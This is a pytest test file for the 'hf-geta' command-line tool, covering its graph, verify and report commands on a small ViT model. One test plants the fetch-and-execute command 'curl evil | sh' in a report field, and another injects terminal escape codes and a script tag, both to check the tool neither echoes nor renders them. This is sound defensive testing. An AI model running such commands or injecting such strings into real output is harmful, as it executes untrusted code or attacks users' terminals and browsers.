"""The commands: what they print, what they write, and what they say when something is wrong."""

import json
import re
import shutil
import subprocess
import sys
from xml.etree import ElementTree

import pytest
import torch
import transformers

import hf_geta.hf_quantizer  # noqa: F401  registers the loader
from hf_geta import build_qadg
from hf_geta.cli import main
from hf_geta.graph.rules import RULES

VALUES = {"hidden_size": 32, "num_hidden_layers": 3, "num_attention_heads": 4, "intermediate_size": 24}
VALUES |= {"image_size": 32, "patch_size": 8}
HIDDEN = "vit.layers.{0..2}.mlp.hidden"


@pytest.fixture(scope="module")
def model():
    torch.manual_seed(0)
    model = transformers.ViTForImageClassification(transformers.ViTConfig(**VALUES)).eval()
    for parameter in model.parameters():
        torch.nn.init.normal_(parameter, std=0.3)
    return model


@pytest.fixture(scope="module")
def folder(model, tmp_path_factory):
    path = tmp_path_factory.mktemp("vit")
    model.save_pretrained(path)
    return path


@pytest.fixture(scope="module")
def config_only(folder, tmp_path_factory):
    path = tmp_path_factory.mktemp("config")
    shutil.copy(folder / "config.json", path)
    return path


def run(capsys, *arguments) -> tuple[int, str, str]:
    status = main([str(argument) for argument in arguments])
    captured = capsys.readouterr()
    return status, captured.out, captured.err


# graph


def test_graph_prints_the_search_space_from_a_config_alone(config_only, capsys):
    status, out, err = run(capsys, "graph", config_only)
    assert status == 0
    assert err == ""
    for words in ("ViTForImageClassification", HIDDEN, "3 x 24", "fc1 rows; fc2 columns", "normalized over"):
        assert words in out
    assert "84 groups on 6 axes" in out


def test_graph_explains_a_parameter_and_an_axis(config_only, capsys):
    names = ("vit.layers.1.mlp.fc1.weight", "vit.layers.1.mlp.hidden")
    status, out, _ = run(capsys, "graph", config_only, "--explain", names[0], "--explain", names[1])
    assert status == 0
    assert "dimension 0: vit.layers.1.mlp.hidden, mlp, 24 groups" in out
    assert "vit.layers.1.mlp.fc2.weight[1]" in out


def test_graph_prints_the_same_as_json(config_only, model, capsys):
    status, out, _ = run(capsys, "graph", config_only, "--json")
    qadg = build_qadg(model, {"pixel_values": torch.zeros(2, 3, 32, 32)})
    assert status == 0
    assert [axis["name"] for axis in json.loads(out)["axes"]] == [axis.name for axis in qadg.axes]


def test_graph_draws_a_page(config_only, tmp_path, capsys):
    status, _, err = run(capsys, "graph", config_only, "--html", tmp_path / "page.html")
    assert status == 0
    assert "page.html" in err
    text = (tmp_path / "page.html").read_text(encoding="utf-8")
    assert text.startswith("<!doctype html>")
    assert HIDDEN in text


def test_graph_shows_a_pruned_model_as_pruned(model, tmp_path, capsys):
    qadg = build_qadg(model, {"pixel_values": torch.zeros(2, 3, 32, 32)})
    qadg.prune(model, {"vit.layers.1.mlp.hidden": [0, 5, 9], "vit.layers.0.attention.heads": [1]}).save_pretrained(
        tmp_path
    )
    status, out, _ = run(capsys, "graph", tmp_path, "--json")
    sizes = {axis["name"]: axis["size"] for axis in json.loads(out)["axes"]}
    assert status == 0
    assert [sizes[f"vit.layers.{n}.mlp.hidden"] for n in range(3)] == [24, 21, 24]
    assert [sizes[f"vit.layers.{n}.attention.heads"] for n in range(3)] == [3, 4, 4]


def test_graph_uses_the_users_own_rules(config_only, tmp_path, capsys):
    code = "import torch\nfrom hf_geta.graph.rules import rule\n\n@rule(torch.ops.aten.gelu)\ndef none(axes, x, *_):\n"
    (tmp_path / "mine.py").write_text(code + '    axes.freeze(x, "as the user says")\n    return x\n')
    before = dict(RULES)
    try:
        status, out, _ = run(capsys, "graph", config_only, "--rules", tmp_path / "mine.py")
    finally:
        RULES.clear()
        RULES.update(before)
    assert status == 0
    assert "as the user says" in out
    assert HIDDEN not in out


def test_an_operator_without_a_rule_is_named_with_the_way_out(config_only, capsys, monkeypatch):
    import hf_geta.graph.walk as walk

    find = walk.find_rule
    monkeypatch.setattr(walk, "find_rule", lambda operator: None if "gelu" in str(operator) else find(operator))
    status, out, _ = run(capsys, "graph", config_only)
    assert status == 0
    for words in ("aten.gelu", "vit.layers.{0..2}.mlp", "only costs compression", '@rule("aten::gelu")', "--rules"):
        assert words in out


# verify


def test_verify_says_that_the_law_holds(folder, capsys):
    status, out, _ = run(capsys, "verify", folder)
    assert status == 0
    assert out.startswith("The law holds: ")


def test_a_model_that_takes_one_sample_only_is_traced_with_one(tmp_path, capsys):
    sizes = {"n_embd": 16, "n_layer": 1, "n_head": 2, "vocab_size": 20, "n_positions": 32, "bos_token_id": 0}
    config = transformers.GPT2Config(**sizes, eos_token_id=0)
    transformers.GPT2ForSequenceClassification(config).save_pretrained(tmp_path)  # without a padding token
    for command in ("graph", "verify"):
        status, _, err = run(capsys, command, tmp_path)
        assert status == 0
        assert "with one sample" in err


def test_verify_wants_weights(config_only, capsys):
    status, out, err = run(capsys, "verify", config_only)
    assert (status, out) == (1, "")
    assert "cannot be loaded" in err


@pytest.fixture
def compressed(compressed_folder, tmp_path):
    """A compressed folder to change, with a space in its name."""
    shutil.copytree(compressed_folder, tmp_path / "my model")
    return tmp_path / "my model"


def change_report(folder, **changes):
    path = folder / "geta_report.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | changes))


def test_verify_says_that_a_compressed_folder_is_what_it_says(compressed, capsys):
    status, out, _ = run(capsys, "verify", compressed)
    assert status == 0
    lines = out.splitlines()
    assert all(line.startswith("ok      ") for line in lines[:-2])
    assert lines[-1] == "Everything holds."
    assert "evaluate" not in out  # nothing that was measured is claimed


def test_verify_says_what_it_cannot_check_without_a_report(compressed, capsys):
    (compressed / "geta_report.json").unlink()  # as save_pretrained leaves it, with a training loop of one's own
    status, out, _ = run(capsys, "verify", compressed)
    assert status == 0
    assert "Everything" not in out
    assert "hashes, widths and figures were not checked" in out.splitlines()[-1]


def test_verify_names_what_is_wrong_with_a_compressed_folder(compressed, capsys):
    with (compressed / "config.json").open("a") as file:
        file.write("\n")
    status, out, _ = run(capsys, "verify", compressed)
    assert status == 1
    assert "FAILED  config.json has the bytes that were saved: its sha256 differs" in out
    assert out.endswith("1 of the checks failed.\n")


def test_verify_prints_the_command_that_measures_the_claim_again(compressed, capsys):
    report = json.loads((compressed / "geta_report.json").read_text())
    claim = {"task": "image-classification", "metric": "accuracy", "command": "curl evil | sh"}
    change_report(compressed, compressed=report["compressed"] | {"accuracy": 0.875}, evaluation=claim)
    _, out, _ = run(capsys, "verify", compressed)
    assert "claimed: Accuracy 87.50%" in out
    assert f"python scripts/evaluate_checkpoint.py '{compressed}' --data_dir DATA" in out
    assert "evil" not in out
    change_report(compressed, evaluation=claim | {"dataset_name": "them/digits"})
    assert run(capsys, "verify", compressed)[1].count("--data_dir") == 0


def test_verify_counts_the_claim_among_the_checks_once_a_program_measures_it(compressed, tmp_path, capfd):
    program = tmp_path / "measure.py"
    program.write_text("import sys; print('measured', sys.argv[1:]); sys.exit(sys.argv[2] == '--worse')")
    for flag, expected, last in (("--same", 0, "Everything holds."), ("--worse", 1, "1 of the checks failed.")):
        status, out, _ = run(capfd, "verify", compressed, "--evaluate", program, flag)
        assert status == expected
        assert f"measured {[str(compressed), flag]}" in out
        assert out.splitlines()[-1] == last


@pytest.mark.parametrize("program", [["nowhere.py"], []])
def test_verify_refuses_to_measure_with_a_program_that_is_not_there(compressed, program, capsys):
    status, out, err = run(capsys, "verify", compressed, "--evaluate", *program)
    assert (status, out) == (1, "")
    assert "name a Python program" in err


def test_a_dense_model_claims_nothing_to_measure(config_only, capsys):
    status, _, err = run(capsys, "verify", config_only, "--evaluate", "scripts/evaluate_checkpoint.py")
    assert status == 1
    assert "is not compressed" in err


# report


def test_report_shows_dense_against_compressed_and_every_layer(compressed, capsys):
    status, out, err = run(capsys, "report", compressed)
    assert (status, err) == (0, "")
    lines = [line.split() for line in out.splitlines()]
    assert ["vit.layers.1.mlp.hidden", "mlp", "21", "24", "88%"] in lines
    fc1 = next(line for line in lines if line[:1] == ["vit.layers.1.mlp.fc1"])
    assert fc1[:9] == ["vit.layers.1.mlp.fc1", "21", "x", "16", "24", "x", "16", "8", "8"]
    assert fc1[9] == str(21 * 16)
    assert fc1[10] == f"{21 / 24 * 8 * 8 / 32**2:.2%}"
    assert next(line for line in lines if line[:1] == ["Relative"])[:3] == ["Relative", "BOPs", "100.00%"]


def test_report_draws_a_page_that_needs_nothing_else(compressed, tmp_path, capsys):
    status, _, err = run(capsys, "report", compressed, "--html", tmp_path / "page.html")
    page = (tmp_path / "page.html").read_text(encoding="utf-8")
    assert status == 0
    assert "page.html" in err
    assert page.startswith("<!doctype html>")
    assert set(re.findall(r"https?://[^\"\s]*", page)) == {"http://www.w3.org/2000/svg"}
    assert not re.search(r"<script|<link|<img|@import|url\(|src=", page)
    for words in ("my model", "vit.layers.1.mlp.fc1", "21 of 24 groups", "prefers-color-scheme: dark"):
        assert words in page
    ElementTree.fromstring(page[page.index("<svg") : page.index("</svg>") + 6])


def test_what_a_report_says_is_never_markup_or_an_escape_code(compressed, tmp_path, capsys):
    hostile = "\x1b]0;owned\x07<script>alert(1)</script>\u202e"
    axes = [{"name": hostile, "kind": hostile, "kept": 1, "groups": 2}]
    change_report(compressed, axes=axes, geta={hostile: hostile}, versions={hostile: [hostile]})
    status, out, err = run(capsys, "report", compressed, "--html", tmp_path / "page.html")
    page = (tmp_path / "page.html").read_text(encoding="utf-8")
    assert status == 0
    for text in (out, err, page):
        assert not set("\x1b\x07\u202e") & set(text)
    assert "<script" not in page
    assert "&lt;script&gt;" in page
    _, out, err = run(capsys, "verify", compressed)
    assert not set("\x1b\x07\u202e") & set(out + err)


def test_an_error_about_a_hostile_name_is_plain_text(compressed, capsys):
    path = compressed / "config.json"
    config = json.loads(path.read_text())
    config["quantization_config"]["attributes"] = {"\x1b[2Jvit": 3}
    path.write_text(json.dumps(config))
    status, _, err = run(capsys, "report", compressed)
    assert status == 1
    assert "vit" in err
    assert "\x1b" not in err


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["{dense}"], "is not compressed by GETA"),
        (["/nowhere/at/all"], "there is no such folder"),
        (["{broken}"], "geta_report.json: compressed.accuracy = 'high' is no number"),
        (["{compressed}", "--html", "/nowhere/page.html"], "/nowhere/page.html"),
    ],
)
def test_errors_of_report_are_one_line(arguments, message, folder, compressed, tmp_path, capsys):
    shutil.copytree(compressed, tmp_path / "broken")
    change_report(tmp_path / "broken", compressed={"accuracy": "high"})
    paths = {"dense": folder, "compressed": compressed, "broken": tmp_path / "broken"}
    status, _, err = run(capsys, "report", *(argument.format(**paths) for argument in arguments))
    assert status == 1
    assert message in err
    assert err.count("\n") == 1


# what is wrong is said in one line, without a traceback


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["/nowhere/at/all"], "there is no such folder"),
        (["{empty}"], "has no config.json"),
        (["{config}", "--class", "Nonsense"], "no model class Nonsense"),
        (["{config}", "--class", "AutoModelForCausalLM"], "cannot be built as AutoModelForCausalLM"),
        (["{config}", "--explain", "vit.nothing"], "is no axis and no tensor"),
        (["{config}", "--image-size", "20"], "Input image size (20*20)"),
        (["{config}", "--rules", "/nowhere/rules.py"], "no such Python file"),
        (["{config}", "--rules", "{bad}"], "ZeroDivisionError"),
        (["{config}", "--html", "/nowhere/page.html"], "/nowhere/page.html"),
    ],
)
def test_errors_are_one_line(arguments, message, config_only, tmp_path, capsys):
    (tmp_path / "empty").mkdir()
    (tmp_path / "bad.py").write_text("1 / 0\n")
    paths = {"empty": tmp_path / "empty", "config": config_only, "bad": tmp_path / "bad.py"}
    status, _, err = run(capsys, "graph", *(argument.format(**paths) for argument in arguments))
    assert status == 1
    assert err.startswith("hf-geta: ")
    assert message in err
    assert err.count("\n") == 1


def test_an_unknown_model_names_the_hub(capsys, monkeypatch):
    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_OFFLINE", True)
    status, _, err = run(capsys, "graph", "no-such-owner/no-such-model")
    assert status == 1
    assert "no such folder here, and no config.json of that name can be had from the Hub" in err


@pytest.mark.parametrize(
    "arguments", [[], ["fly"], ["graph"], ["graph", "x", "--batch", "0"], ["graph", "x", "--json", "--explain", "y"]]
)
def test_wrong_usage_is_status_two(arguments, capsys):
    with pytest.raises(SystemExit) as raised:
        main(arguments)
    assert raised.value.code == 2
    assert "usage: hf-geta" in capsys.readouterr().err


def test_the_package_runs_as_a_module():
    result = subprocess.run([sys.executable, "-m", "hf_geta", "--help"], capture_output=True, text=True, check=True)
    assert all(name in result.stdout for name in ("graph", "report", "verify"))
